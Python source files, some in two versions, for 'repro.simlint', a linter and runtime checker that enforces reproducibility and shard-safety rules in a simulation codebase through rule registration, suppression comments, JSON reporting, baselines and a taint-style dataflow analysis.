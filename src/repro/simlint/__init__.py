"""repro.simlint: the determinism contract, enforced.

Static half — an AST linter with stable ``SIM1xx`` file rules over the
habits that break (config, seed) -> bytes reproducibility (wall-clock
reads, module-global RNG draws, set iteration into ordered sinks,
mutable defaults, float time equality, ``id()`` sort keys, scheduled
closures capturing loop variables, unused imports) plus the ``SIM2xx``
whole-program shard-safety rules: a project symbol table and call
graph (:mod:`repro.simlint.symbols`), a forward dataflow/taint
framework (:mod:`repro.simlint.dataflow`), and ownership, cross-rank
race, counter-conservation, RNG-stream, and neutral-event checks
(:mod:`repro.simlint.shardcheck`) against the machine-readable
``SHARD_CONTRACT`` declared by :mod:`repro.netsim.shard`.  ``repro
lint --fix`` applies the mechanical rewrites (:mod:`repro.simlint.fix`);
``--diff`` and ``--baseline`` keep the gate incremental.

Dynamic half — runtime sanitizers (scheduler tie-break audit, named
RNG-stream accounting, and the shard-access auditor that watches a
real partitioned run for contract violations) and a double-run harness
that executes a config twice and across ``--jobs`` and localizes the
first diverging ``repro.obs`` trace event.

CLI: ``repro lint`` and ``repro verify-determinism`` (both CI gates).
"""

from repro.simlint.checks import run_checks  # registers every rule
from repro.simlint.engine import (
    changed_python_files,
    in_clock_allowlist,
    lint_paths,
    lint_project_sources,
    lint_source,
)
from repro.simlint.fix import FIXABLE_CODES, fix_paths, fix_source
from repro.simlint.reporting import (
    SCHEMA_VERSION,
    apply_baseline,
    format_json,
    format_text,
    load_baseline,
    to_json_document,
    violations_from_json,
    write_baseline,
)
from repro.simlint.rules import (
    REGISTRY,
    ProjectContext,
    Rule,
    Violation,
    all_codes,
    filter_codes,
    parse_suppressions,
)
from repro.simlint.runtime import (
    RngStreamGuard,
    ShardAccessAuditor,
    TieBreakAuditor,
    audit_run,
)
from repro.simlint.verify import (
    CheckResult,
    DeterminismReport,
    Divergence,
    canonical_trace_lines,
    first_divergence,
    traced_run,
    verify_determinism,
    verify_double_run,
    verify_jobs,
    verify_shard_lint,
)

__all__ = [
    "REGISTRY",
    "ProjectContext",
    "Rule",
    "Violation",
    "all_codes",
    "filter_codes",
    "parse_suppressions",
    "changed_python_files",
    "in_clock_allowlist",
    "lint_paths",
    "lint_project_sources",
    "lint_source",
    "run_checks",
    "FIXABLE_CODES",
    "fix_paths",
    "fix_source",
    "SCHEMA_VERSION",
    "apply_baseline",
    "format_json",
    "format_text",
    "load_baseline",
    "to_json_document",
    "violations_from_json",
    "write_baseline",
    "RngStreamGuard",
    "ShardAccessAuditor",
    "TieBreakAuditor",
    "audit_run",
    "CheckResult",
    "DeterminismReport",
    "Divergence",
    "canonical_trace_lines",
    "first_divergence",
    "traced_run",
    "verify_determinism",
    "verify_double_run",
    "verify_jobs",
    "verify_shard_lint",
]
