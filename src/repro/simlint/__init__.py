"""repro.simlint: the determinism contract, enforced.

Static half — an AST linter with stable ``SIM1xx`` rules over the
habits that break (config, seed) -> bytes reproducibility: wall-clock
reads, module-global RNG draws, set iteration into ordered sinks,
mutable defaults, float time equality, ``id()`` sort keys, and loop
variables captured by scheduled closures.

Dynamic half — a runtime sanitizer (scheduler tie-break audit, named
RNG-stream accounting) and a double-run harness that executes a config
twice and across ``--jobs`` and localizes the first diverging
``repro.obs`` trace event.

CLI: ``repro lint`` and ``repro verify-determinism`` (both CI gates).
"""

from repro.simlint.checks import run_checks  # registers every rule
from repro.simlint.engine import in_clock_allowlist, lint_paths, lint_source
from repro.simlint.reporting import (
    SCHEMA_VERSION,
    format_json,
    format_text,
    to_json_document,
    violations_from_json,
)
from repro.simlint.rules import (
    REGISTRY,
    Rule,
    Violation,
    all_codes,
    filter_codes,
    parse_suppressions,
)
from repro.simlint.runtime import RngStreamGuard, TieBreakAuditor, audit_run
from repro.simlint.verify import (
    CheckResult,
    DeterminismReport,
    Divergence,
    canonical_trace_lines,
    first_divergence,
    traced_run,
    verify_determinism,
    verify_double_run,
    verify_jobs,
)

__all__ = [
    "REGISTRY",
    "Rule",
    "Violation",
    "all_codes",
    "filter_codes",
    "parse_suppressions",
    "in_clock_allowlist",
    "lint_paths",
    "lint_source",
    "run_checks",
    "SCHEMA_VERSION",
    "format_json",
    "format_text",
    "to_json_document",
    "violations_from_json",
    "RngStreamGuard",
    "TieBreakAuditor",
    "audit_run",
    "CheckResult",
    "DeterminismReport",
    "Divergence",
    "canonical_trace_lines",
    "first_divergence",
    "traced_run",
    "verify_determinism",
    "verify_double_run",
    "verify_jobs",
]
