"""Rule registry and violation model for the determinism linter.

Every check the linter can make is a :class:`Rule` with a stable
``SIM1xx`` code (codes are API: suppression comments, ``--select`` /
``--ignore``, CI logs, and the DESIGN.md contract table all reference
them).  Checks register themselves with :func:`rule`; the engine runs
every registered check unless the caller narrows the set.

Suppression is comment-driven, per line or per file::

    t0 = time.perf_counter()          # simlint: disable=SIM101
    # simlint: file-disable=SIM102,SIM105   (anywhere in the file)

``disable=all`` suppresses every rule for that line (or file).
"""

from __future__ import annotations

import io
import tokenize
from dataclasses import dataclass, field
from typing import Callable, Dict, Iterable, List, Optional, Set, Tuple


@dataclass(frozen=True)
class Rule:
    """One registered determinism check.

    ``scope`` selects the check signature: ``"file"`` rules see one
    parsed module (``check(tree, ctx)``); ``"project"`` rules see the
    whole-program index (``check(ctx: ProjectContext)``) and may report
    violations in any indexed file.
    """

    code: str          # stable "SIMxxx" identifier
    name: str          # short kebab-case slug, e.g. "wall-clock"
    summary: str       # one-line contract statement
    check: Callable    # file: check(tree, ctx); project: check(project_ctx)
    scope: str = "file"


@dataclass(frozen=True)
class Violation:
    """One finding: where, which rule, and what to do about it."""

    path: str
    line: int
    col: int
    code: str
    message: str

    def to_dict(self) -> dict:
        return {
            "path": self.path,
            "line": self.line,
            "col": self.col,
            "code": self.code,
            "message": self.message,
        }

    @classmethod
    def from_dict(cls, data: dict) -> "Violation":
        return cls(
            path=data["path"],
            line=int(data["line"]),
            col=int(data["col"]),
            code=data["code"],
            message=data["message"],
        )


#: every registered rule, keyed by code (populated by repro.simlint.checks)
REGISTRY: Dict[str, Rule] = {}


def rule(code: str, name: str, summary: str, scope: str = "file"):
    """Decorator: register a check under a stable SIMxxx code."""
    def register(check: Callable) -> Callable:
        if code in REGISTRY:
            raise ValueError(f"duplicate rule code {code}")
        REGISTRY[code] = Rule(code=code, name=name, summary=summary,
                              check=check, scope=scope)
        return check
    return register


def all_codes() -> List[str]:
    return sorted(REGISTRY)


# ----------------------------------------------------------------------
# Suppression comments
# ----------------------------------------------------------------------
_DIRECTIVE = "simlint:"


def _parse_directive(comment: str) -> Optional[Tuple[str, Set[str]]]:
    """``(kind, codes)`` from one comment, or None.

    ``kind`` is ``"line"`` or ``"file"``; ``codes`` is the set of
    suppressed SIM codes, or ``{"all"}``.
    """
    text = comment.lstrip("#").strip()
    # the directive may trail another comment: `# noqa  # simlint: ...`
    marker = text.find(_DIRECTIVE)
    if marker == -1:
        return None
    text = text[marker + len(_DIRECTIVE):].strip()
    for prefix, kind in (("file-disable=", "file"), ("disable=", "line")):
        if text.startswith(prefix):
            spec = text[len(prefix):].split()[0] if text[len(prefix):] else ""
            codes = {code.strip() for code in spec.split(",") if code.strip()}
            return (kind, codes) if codes else None
    return None


@dataclass
class Suppressions:
    """Per-file suppression state parsed from comments."""

    file_codes: Set[str] = field(default_factory=set)
    line_codes: Dict[int, Set[str]] = field(default_factory=dict)

    def suppressed(self, line: int, code: str) -> bool:
        if "all" in self.file_codes or code in self.file_codes:
            return True
        codes = self.line_codes.get(line)
        return codes is not None and ("all" in codes or code in codes)


def parse_suppressions(source: str) -> Suppressions:
    """Scan the token stream for ``# simlint:`` directives."""
    out = Suppressions()
    try:
        tokens = tokenize.generate_tokens(io.StringIO(source).readline)
        for token in tokens:
            if token.type != tokenize.COMMENT:
                continue
            parsed = _parse_directive(token.string)
            if parsed is None:
                continue
            kind, codes = parsed
            if kind == "file":
                out.file_codes |= codes
            else:
                out.line_codes.setdefault(token.start[0], set()).update(codes)
    except tokenize.TokenError:
        pass  # a truncated stream still yields the directives before it
    return out


# ----------------------------------------------------------------------
# Check context
# ----------------------------------------------------------------------
class CheckContext:
    """What a check sees: the file's identity and a report sink.

    ``in_clock_allowlist`` marks files where wall-clock reads are the
    point (the ``obs`` instrumentation package, benchmark harnesses) so
    SIM101 stays quiet there without per-line noise.
    """

    def __init__(self, path: str, source: str,
                 in_clock_allowlist: bool = False):
        self.path = path
        self.source = source
        self.in_clock_allowlist = in_clock_allowlist
        self.violations: List[Violation] = []

    def report(self, node, code: str, message: str) -> None:
        self.violations.append(Violation(
            path=self.path,
            line=getattr(node, "lineno", 0),
            col=getattr(node, "col_offset", 0),
            code=code,
            message=message,
        ))


class ProjectContext:
    """What a project-scope check sees: the whole-program index, a
    report sink, and a scratch cache shared by the rules of one run
    (reachability sets, the parsed shard contract) so five SIM2xx rules
    do not rebuild the same BFS five times.

    ``contract_override`` lets tests (and the mutation-style analyzer
    tests in ``tests/test_shard.py``) analyze the real tree against a
    deliberately perturbed contract.
    """

    def __init__(self, index, contract_override: Optional[dict] = None):
        self.index = index
        self.contract_override = contract_override
        self.cache: Dict[str, object] = {}
        self.violations: List[Violation] = []

    def report(self, path: str, node, code: str, message: str) -> None:
        self.violations.append(Violation(
            path=path,
            line=getattr(node, "lineno", 0),
            col=getattr(node, "col_offset", 0),
            code=code,
            message=message,
        ))


def filter_codes(codes: Iterable[str],
                 select: Optional[Iterable[str]] = None,
                 ignore: Optional[Iterable[str]] = None) -> List[str]:
    """The enabled rule codes after ``--select`` / ``--ignore``.

    Entries match exactly or by prefix: ``--select SIM2`` enables the
    whole SIM2xx family, ``--ignore SIM10`` drops SIM101..SIM109.
    """
    chosen = list(codes)
    if select:
        wanted = set(select)
        unknown = {
            entry for entry in wanted
            if not any(code.startswith(entry) for code in chosen)
        }
        if unknown:
            raise ValueError(f"unknown rule code(s): {sorted(unknown)}")
        chosen = [code for code in chosen
                  if any(code.startswith(entry) for entry in wanted)]
    if ignore:
        dropped = set(ignore)
        chosen = [code for code in chosen
                  if not any(code.startswith(entry) for entry in dropped)]
    return chosen
