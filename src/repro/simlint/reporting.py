"""Reporters: render lint violations as text or machine-readable JSON.

The JSON document is a stable schema (``schema_version`` guards it) so
CI annotations and editor integrations can parse findings without
scraping text output; :func:`violations_from_json` is its exact inverse
(round-trip asserted by ``tests/test_simlint.py``).
"""

from __future__ import annotations

import json
from typing import Dict, List

from repro.simlint.rules import REGISTRY, Violation

#: bump when the JSON document shape changes
SCHEMA_VERSION = 1


def format_text(violations: List[Violation]) -> str:
    """``path:line:col: CODE message`` per finding, plus a tally."""
    lines = [
        f"{violation.path}:{violation.line}:{violation.col}: "
        f"{violation.code} {violation.message}"
        for violation in violations
    ]
    tally = _tally(violations)
    if violations:
        summary = ", ".join(f"{code}={count}" for code, count in sorted(tally.items()))
        lines.append(f"{len(violations)} violation(s) ({summary})")
    else:
        lines.append("clean: no determinism violations")
    return "\n".join(lines)


def _tally(violations: List[Violation]) -> Dict[str, int]:
    counts: Dict[str, int] = {}
    for violation in violations:
        counts[violation.code] = counts.get(violation.code, 0) + 1
    return counts


def to_json_document(violations: List[Violation]) -> dict:
    return {
        "schema_version": SCHEMA_VERSION,
        "tool": "repro.simlint",
        "rules": {
            code: {"name": rule.name, "summary": rule.summary}
            for code, rule in sorted(REGISTRY.items())
        },
        "counts": _tally(violations),
        "violations": [violation.to_dict() for violation in violations],
    }


def format_json(violations: List[Violation], indent: int = 2) -> str:
    return json.dumps(to_json_document(violations), indent=indent, sort_keys=True)


def violations_from_json(text: str) -> List[Violation]:
    """Inverse of :func:`format_json` (violations only)."""
    document = json.loads(text)
    version = document.get("schema_version")
    if version != SCHEMA_VERSION:
        raise ValueError(
            f"unsupported simlint schema_version {version!r} "
            f"(expected {SCHEMA_VERSION})"
        )
    return [Violation.from_dict(item) for item in document["violations"]]
