"""Reporters: render lint violations as text or machine-readable JSON.

The JSON document is a stable schema (``schema_version`` guards it) so
CI annotations and editor integrations can parse findings without
scraping text output; :func:`violations_from_json` is its exact inverse
(round-trip asserted by ``tests/test_simlint.py``).

The same document doubles as a **baseline**: ``repro lint
--write-baseline findings.json`` snapshots the current findings, and a
later ``--baseline findings.json`` subtracts them so only *new*
violations fail the gate.  Baselined findings match on ``(path, code,
message)`` — line numbers drift with unrelated edits; the message
(which names the symbol) does not.
"""

from __future__ import annotations

import json
from typing import Dict, List

from repro.simlint.rules import REGISTRY, Violation

#: bump when the JSON document shape changes.
#: 2: rule entries grew ``scope`` (file vs project) with the SIM2xx
#: shard-safety family; version-1 documents no longer load.
SCHEMA_VERSION = 2


def format_text(violations: List[Violation]) -> str:
    """``path:line:col: CODE message`` per finding, plus a tally."""
    lines = [
        f"{violation.path}:{violation.line}:{violation.col}: "
        f"{violation.code} {violation.message}"
        for violation in violations
    ]
    tally = _tally(violations)
    if violations:
        summary = ", ".join(f"{code}={count}" for code, count in sorted(tally.items()))
        lines.append(f"{len(violations)} violation(s) ({summary})")
    else:
        lines.append("clean: no determinism violations")
    return "\n".join(lines)


def _tally(violations: List[Violation]) -> Dict[str, int]:
    counts: Dict[str, int] = {}
    for violation in violations:
        counts[violation.code] = counts.get(violation.code, 0) + 1
    return counts


def to_json_document(violations: List[Violation]) -> dict:
    return {
        "schema_version": SCHEMA_VERSION,
        "tool": "repro.simlint",
        "rules": {
            code: {"name": rule.name, "summary": rule.summary,
                   "scope": rule.scope}
            for code, rule in sorted(REGISTRY.items())
        },
        "counts": _tally(violations),
        "violations": [violation.to_dict() for violation in violations],
    }


def format_json(violations: List[Violation], indent: int = 2) -> str:
    return json.dumps(to_json_document(violations), indent=indent, sort_keys=True)


def violations_from_json(text: str) -> List[Violation]:
    """Inverse of :func:`format_json` (violations only)."""
    document = json.loads(text)
    version = document.get("schema_version")
    if version != SCHEMA_VERSION:
        raise ValueError(
            f"unsupported simlint schema_version {version!r} "
            f"(expected {SCHEMA_VERSION})"
        )
    return [Violation.from_dict(item) for item in document["violations"]]


# ----------------------------------------------------------------------
# Baselines: land a new rule strict without a big-bang cleanup
# ----------------------------------------------------------------------
def write_baseline(violations: List[Violation], path: str) -> None:
    """Snapshot ``violations`` as a baseline file (the JSON document)."""
    with open(path, "w", encoding="utf-8") as handle:
        handle.write(format_json(violations))
        handle.write("\n")


def load_baseline(path: str) -> List[Violation]:
    """Read a baseline file back; raises on schema mismatch."""
    with open(path, encoding="utf-8") as handle:
        return violations_from_json(handle.read())


def apply_baseline(
    violations: List[Violation], baseline: List[Violation]
) -> List[Violation]:
    """Subtract baselined findings; only new violations remain.

    Matching is a multiset over ``(path, code, message)``: two identical
    pre-existing findings need two baseline entries, so fixing one and
    introducing another elsewhere in the same file still fails.
    """
    budget: Dict[tuple, int] = {}
    for item in baseline:
        key = (item.path, item.code, item.message)
        budget[key] = budget.get(key, 0) + 1
    kept: List[Violation] = []
    for violation in violations:
        key = (violation.path, violation.code, violation.message)
        if budget.get(key, 0) > 0:
            budget[key] -= 1
        else:
            kept.append(violation)
    return kept
