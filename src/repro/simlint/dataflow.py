"""Forward dataflow / taint framework over one function body.

The shard rules need to know *what object a mutation lands on*:
``engine = self.ddosim.flow_engine; engine.start_flow(...)`` mutates the
flow engine just as surely as the direct spelling does.  This module
provides the small abstract interpreter the SIM2xx rules share:

* a **taint** is an opaque string tag attached to an abstract value
  (``"own:flow_engine"``, ``"ctr:queue_drops_total"``,
  ``"rng:churn"`` — the rule chooses the vocabulary);
* the rule supplies a ``seed(expr) -> tags`` callback introducing tags
  at source expressions (an attribute read, a registration call);
* the framework propagates tags forward through assignments (including
  tuple unpacking and loop targets), attribute chains, call results and
  containers, iterating loop bodies twice so loop-carried facts reach a
  fixpoint for this height-1 lattice;
* every *mutation through a tainted value* — an attribute store, an
  augmented store, a subscript store, or a method call on a tainted
  receiver — is emitted as a :class:`TaintEvent` with the AST node for
  ``file:line`` localization.

Deliberately flow-insensitive across calls (interprocedural questions
belong to the call graph in :mod:`repro.simlint.symbols`) and
path-insensitive inside branches: both branches of an ``if`` contribute
facts.  For lint purposes over-taint is the safe direction.
"""

from __future__ import annotations

import ast
from dataclasses import dataclass
from typing import Callable, Dict, FrozenSet, List, Set

_FUNCTION_NODES = (ast.FunctionDef, ast.AsyncFunctionDef)

Tags = FrozenSet[str]
EMPTY: Tags = frozenset()


@dataclass(frozen=True)
class TaintEvent:
    """One mutation observed through a tainted value."""

    node: ast.AST      # where (lineno/col_offset)
    kind: str          # "attr-store" | "aug-store" | "subscript-store" | "call"
    tags: Tags         # taints on the mutated receiver
    detail: str        # attribute or method name

    @property
    def line(self) -> int:
        return getattr(self.node, "lineno", 0)


class TaintAnalysis:
    """Run one function; collect :class:`TaintEvent` records.

    ``seed(expr)`` may return tags for any expression node; it is
    consulted on every Name/Attribute/Call the walker evaluates, so a
    rule can root taints wherever its contract says they begin.
    """

    def __init__(self, seed: Callable[[ast.AST], Set[str]]):
        self._seed = seed
        self.env: Dict[str, Tags] = {}
        self.events: List[TaintEvent] = []
        self._emitted: Set[int] = set()

    # ------------------------------------------------------------------
    def run(self, fn_node: ast.AST) -> List[TaintEvent]:
        self.env = {}
        self.events = []
        self._emitted = set()
        # Two passes: the second sees loop-carried and later-assigned
        # taints; events dedupe by node identity so nothing doubles.
        for _ in range(2):
            for stmt in fn_node.body:
                self._stmt(stmt)
        self.events.sort(key=lambda event: (event.line, event.detail))
        return self.events

    # ------------------------------------------------------------------
    # Statements
    # ------------------------------------------------------------------
    def _stmt(self, stmt: ast.stmt) -> None:
        if isinstance(stmt, _FUNCTION_NODES) or isinstance(stmt, ast.ClassDef):
            return  # nested defs are their own analysis units
        if isinstance(stmt, ast.Assign):
            tags = self._eval(stmt.value)
            for target in stmt.targets:
                self._assign(target, tags)
        elif isinstance(stmt, ast.AnnAssign):
            if stmt.value is not None:
                self._assign(stmt.target, self._eval(stmt.value))
        elif isinstance(stmt, ast.AugAssign):
            tags = self._eval(stmt.value)
            target = stmt.target
            if isinstance(target, ast.Name):
                merged = self.env.get(target.id, EMPTY) | tags
                if merged:
                    self.env[target.id] = merged
            elif isinstance(target, ast.Attribute):
                receiver = self._eval(target.value)
                if receiver:
                    self._emit(target, "aug-store", receiver, target.attr)
            elif isinstance(target, ast.Subscript):
                receiver = self._eval(target.value)
                if receiver:
                    self._emit(target, "subscript-store", receiver, "[]")
        elif isinstance(stmt, ast.Expr):
            self._eval(stmt.value)
        elif isinstance(stmt, ast.Return):
            if stmt.value is not None:
                self._eval(stmt.value)
        elif isinstance(stmt, (ast.If, ast.While)):
            self._eval(stmt.test)
            for sub in stmt.body + stmt.orelse:
                self._stmt(sub)
        elif isinstance(stmt, ast.For):
            self._assign(stmt.target, self._eval(stmt.iter))
            for sub in stmt.body + stmt.orelse:
                self._stmt(sub)
        elif isinstance(stmt, ast.With):
            for item in stmt.items:
                tags = self._eval(item.context_expr)
                if item.optional_vars is not None:
                    self._assign(item.optional_vars, tags)
            for sub in stmt.body:
                self._stmt(sub)
        elif isinstance(stmt, ast.Try):
            for sub in stmt.body + stmt.orelse + stmt.finalbody:
                self._stmt(sub)
            for handler in stmt.handlers:
                for sub in handler.body:
                    self._stmt(sub)
        elif isinstance(stmt, (ast.Raise, ast.Assert)):
            for child in ast.iter_child_nodes(stmt):
                if isinstance(child, ast.expr):
                    self._eval(child)
        # Delete/Pass/Import/Global/Nonlocal: nothing to track

    def _assign(self, target: ast.expr, tags: Tags) -> None:
        if isinstance(target, ast.Name):
            if tags:
                self.env[target.id] = tags
            else:
                self.env.pop(target.id, None)  # strong update kills stale tags
        elif isinstance(target, (ast.Tuple, ast.List)):
            for element in target.elts:
                self._assign(element, tags)
        elif isinstance(target, ast.Starred):
            self._assign(target.value, tags)
        elif isinstance(target, ast.Attribute):
            receiver = self._eval(target.value)
            if receiver:
                self._emit(target, "attr-store", receiver, target.attr)
        elif isinstance(target, ast.Subscript):
            receiver = self._eval(target.value)
            if receiver:
                self._emit(target, "subscript-store", receiver, "[]")

    # ------------------------------------------------------------------
    # Expressions
    # ------------------------------------------------------------------
    def _eval(self, node: ast.expr) -> Tags:
        seeded = frozenset(self._seed(node) or ())
        if isinstance(node, ast.Name):
            return seeded | self.env.get(node.id, EMPTY)
        if isinstance(node, ast.Attribute):
            # taint flows through attribute reads: a handle to part of a
            # tainted object is still a handle to rank-0 state
            return seeded | self._eval(node.value)
        if isinstance(node, ast.Call):
            receiver = EMPTY
            if isinstance(node.func, ast.Attribute):
                receiver = self._eval(node.func.value)
                if receiver:
                    self._emit(node, "call", receiver, node.func.attr)
            else:
                self._eval(node.func)
            arg_tags = EMPTY
            for arg in node.args:
                arg_tags |= self._eval(
                    arg.value if isinstance(arg, ast.Starred) else arg)
            for keyword in node.keywords:
                arg_tags |= self._eval(keyword.value)
            # a call's result carries its receiver's taints (method
            # chaining: counter(...).labels(...).inc()) and its args'
            # (sorted(tainted) is still tainted), plus any seeds
            return seeded | receiver | arg_tags
        if isinstance(node, (ast.Tuple, ast.List, ast.Set)):
            out = seeded
            for element in node.elts:
                out |= self._eval(
                    element.value if isinstance(element, ast.Starred)
                    else element)
            return out
        if isinstance(node, ast.Dict):
            out = seeded
            for key in node.keys:
                if key is not None:
                    out |= self._eval(key)
            for value in node.values:
                out |= self._eval(value)
            return out
        if isinstance(node, (ast.BinOp,)):
            return seeded | self._eval(node.left) | self._eval(node.right)
        if isinstance(node, ast.BoolOp):
            out = seeded
            for value in node.values:
                out |= self._eval(value)
            return out
        if isinstance(node, ast.UnaryOp):
            return seeded | self._eval(node.operand)
        if isinstance(node, ast.IfExp):
            self._eval(node.test)
            return seeded | self._eval(node.body) | self._eval(node.orelse)
        if isinstance(node, ast.Compare):
            self._eval(node.left)
            for comparator in node.comparators:
                self._eval(comparator)
            return seeded
        if isinstance(node, ast.Subscript):
            return seeded | self._eval(node.value)
        if isinstance(node, ast.Starred):
            return seeded | self._eval(node.value)
        if isinstance(node, (ast.JoinedStr, ast.FormattedValue)):
            for child in ast.iter_child_nodes(node):
                if isinstance(child, ast.expr):
                    self._eval(child)
            return seeded
        if isinstance(node, ast.Lambda):
            return seeded  # opaque; scheduled lambdas are SIM107's beat
        if isinstance(node, (ast.ListComp, ast.SetComp, ast.GeneratorExp,
                             ast.DictComp)):
            for generator in node.generators:
                self._assign(generator.target, self._eval(generator.iter))
            if isinstance(node, ast.DictComp):
                return seeded | self._eval(node.key) | self._eval(node.value)
            return seeded | self._eval(node.elt)
        if isinstance(node, (ast.Await, ast.Yield, ast.YieldFrom)):
            inner = getattr(node, "value", None)
            return seeded | (self._eval(inner) if inner is not None else EMPTY)
        return seeded  # constants and anything else

    # ------------------------------------------------------------------
    def _emit(self, node: ast.AST, kind: str, tags: Tags,
              detail: str) -> None:
        key = id(node)
        if key in self._emitted:
            return
        self._emitted.add(key)
        self.events.append(TaintEvent(node=node, kind=kind,
                                      tags=tags, detail=detail))


def taint_function(fn_node: ast.AST,
                   seed: Callable[[ast.AST], Set[str]]) -> List[TaintEvent]:
    """Convenience wrapper: one function, one seed, events out."""
    return TaintAnalysis(seed).run(fn_node)
