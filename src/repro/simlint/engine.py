"""Lint driver: walk files, parse, run rules, apply suppressions.

The engine is what ``repro lint`` (and the CI gate) calls::

    violations = lint_paths(["src/repro"])
    sys.exit(1 if violations else 0)

Two escape hatches keep the gate honest rather than noisy:

* the **clock allowlist** — files under an ``obs``/``benchmarks``
  directory (or named ``bench*``) may read the wall clock, because
  measuring wall time is their job; SIM101 is informational there.
* **suppression comments** (``# simlint: disable=SIM101``) — for the
  handful of intentional violations elsewhere (e.g. the simulator's
  instrumented loop timing callbacks).  Suppressions are part of the
  diff, so every exception is reviewed like any other code.
"""

from __future__ import annotations

import ast
import os
from typing import Iterable, List, Optional, Sequence

from repro.simlint.rules import (
    CheckContext,
    Violation,
    all_codes,
    filter_codes,
    parse_suppressions,
)

#: path components whose files measure wall time on purpose
CLOCK_ALLOWLIST_DIRS = ("obs", "benchmarks")


def in_clock_allowlist(path: str) -> bool:
    """True for files whose job is wall-time measurement (SIM101 off)."""
    parts = os.path.normpath(path).split(os.sep)
    if any(part in CLOCK_ALLOWLIST_DIRS for part in parts[:-1]):
        return True
    return os.path.basename(path).startswith("bench")


def lint_source(
    source: str,
    path: str = "<string>",
    select: Optional[Sequence[str]] = None,
    ignore: Optional[Sequence[str]] = None,
) -> List[Violation]:
    """Lint one module's source text; returns unsuppressed violations."""
    codes = filter_codes(all_codes(), select=select, ignore=ignore)
    try:
        tree = ast.parse(source, filename=path)
    except SyntaxError as exc:
        return [Violation(path=path, line=exc.lineno or 0,
                          col=exc.offset or 0, code="SIM100",
                          message=f"syntax error: {exc.msg}")]
    ctx = CheckContext(path, source, in_clock_allowlist=in_clock_allowlist(path))
    from repro.simlint.checks import run_checks

    run_checks(tree, ctx, codes)
    suppressions = parse_suppressions(source)
    kept = [
        violation for violation in ctx.violations
        if not suppressions.suppressed(violation.line, violation.code)
    ]
    kept.sort(key=lambda violation: (violation.line, violation.col, violation.code))
    return kept


def iter_python_files(paths: Iterable[str]) -> List[str]:
    """Expand files/directories into a sorted list of ``.py`` files."""
    out: List[str] = []
    for path in paths:
        if os.path.isdir(path):
            for dirpath, dirnames, filenames in os.walk(path):
                dirnames.sort()
                dirnames[:] = [name for name in dirnames
                               if name not in ("__pycache__", ".git")]
                out.extend(
                    os.path.join(dirpath, name)
                    for name in sorted(filenames) if name.endswith(".py")
                )
        else:
            out.append(path)
    return out


def lint_paths(
    paths: Iterable[str],
    select: Optional[Sequence[str]] = None,
    ignore: Optional[Sequence[str]] = None,
) -> List[Violation]:
    """Lint every ``.py`` file under ``paths`` (deterministic order)."""
    violations: List[Violation] = []
    for filename in iter_python_files(paths):
        with open(filename, encoding="utf-8") as handle:
            source = handle.read()
        violations.extend(
            lint_source(source, path=filename, select=select, ignore=ignore)
        )
    return violations
