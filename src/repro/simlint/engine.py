"""Lint driver: walk files, parse, run rules, apply suppressions.

The engine is what ``repro lint`` (and the CI gate) calls::

    violations = lint_paths(["src/repro"])
    sys.exit(1 if violations else 0)

Two passes share one file walk:

* the **file pass** runs every ``scope="file"`` rule (SIM1xx) over each
  module independently;
* the **project pass** builds one :class:`ProjectIndex` over the same
  sources and runs the ``scope="project"`` shard-safety rules (SIM2xx),
  which need the cross-module call graph and the shard contract.

Escape hatches keep the gate honest rather than noisy:

* the **clock allowlist** — files under an ``obs``/``benchmarks``
  directory (or named ``bench*``) may read the wall clock, because
  measuring wall time is their job; SIM101 is informational there.
* **suppression comments** (``# simlint: disable=SIM101``) — for the
  handful of intentional violations elsewhere.  Suppressions are part
  of the diff, so every exception is reviewed like any other code;
  they apply to project-scope findings exactly as to file-scope ones.
* **baselines** (``--baseline findings.json``) — a versioned-JSON
  snapshot of pre-existing findings so a new rule can land strict
  without a big-bang cleanup; see :mod:`repro.simlint.reporting`.
* ``--diff BASE`` — lint only files changed against a git ref, the
  pre-commit fast path.
"""

from __future__ import annotations

import ast
import os
import subprocess
from typing import Dict, Iterable, List, Optional, Sequence

# importing the check modules fills the rule registry
import repro.simlint.checks  # noqa: F401  # simlint: disable=SIM108
import repro.simlint.shardcheck as shardcheck
from repro.simlint.rules import (
    REGISTRY,
    CheckContext,
    ProjectContext,
    Violation,
    all_codes,
    filter_codes,
    parse_suppressions,
)
from repro.simlint.symbols import ProjectIndex, module_name_for

#: path components whose files measure wall time on purpose
CLOCK_ALLOWLIST_DIRS = ("obs", "benchmarks")


def in_clock_allowlist(path: str) -> bool:
    """True for files whose job is wall-time measurement (SIM101 off)."""
    parts = os.path.normpath(path).split(os.sep)
    if any(part in CLOCK_ALLOWLIST_DIRS for part in parts[:-1]):
        return True
    return os.path.basename(path).startswith("bench")


def lint_source(
    source: str,
    path: str = "<string>",
    select: Optional[Sequence[str]] = None,
    ignore: Optional[Sequence[str]] = None,
) -> List[Violation]:
    """Lint one module's source text (file-scope rules only); returns
    unsuppressed violations."""
    codes = filter_codes(all_codes(), select=select, ignore=ignore)
    try:
        tree = ast.parse(source, filename=path)
    except SyntaxError as exc:
        return [Violation(path=path, line=exc.lineno or 0,
                          col=exc.offset or 0, code="SIM100",
                          message=f"syntax error: {exc.msg}")]
    ctx = CheckContext(path, source, in_clock_allowlist=in_clock_allowlist(path))
    from repro.simlint.checks import run_checks

    run_checks(tree, ctx, codes)
    suppressions = parse_suppressions(source)
    kept = [
        violation for violation in ctx.violations
        if not suppressions.suppressed(violation.line, violation.code)
    ]
    kept.sort(key=lambda violation: (violation.line, violation.col, violation.code))
    return kept


def iter_python_files(paths: Iterable[str]) -> List[str]:
    """Expand files/directories into a sorted list of ``.py`` files."""
    out: List[str] = []
    for path in paths:
        if os.path.isdir(path):
            for dirpath, dirnames, filenames in os.walk(path):
                dirnames.sort()
                dirnames[:] = [name for name in dirnames
                               if name not in ("__pycache__", ".git")]
                out.extend(
                    os.path.join(dirpath, name)
                    for name in sorted(filenames) if name.endswith(".py")
                )
        else:
            out.append(path)
    return out


def project_scope_codes(
    select: Optional[Sequence[str]] = None,
    ignore: Optional[Sequence[str]] = None,
) -> List[str]:
    """The enabled ``scope="project"`` rule codes."""
    codes = filter_codes(all_codes(), select=select, ignore=ignore)
    return [code for code in codes if REGISTRY[code].scope == "project"]


def lint_project_sources(
    sources: Dict[str, object],
    select: Optional[Sequence[str]] = None,
    ignore: Optional[Sequence[str]] = None,
    contract: Optional[dict] = None,
) -> List[Violation]:
    """Run the project-scope rules over in-memory modules.

    ``sources`` maps module name to ``source`` or ``(path, source)``
    (the :meth:`ProjectIndex.from_sources` shapes).  ``contract``
    overrides the ``SHARD_CONTRACT`` literal discovery — the hook the
    mutation-style analyzer tests use to seed violations into a clean
    tree.
    """
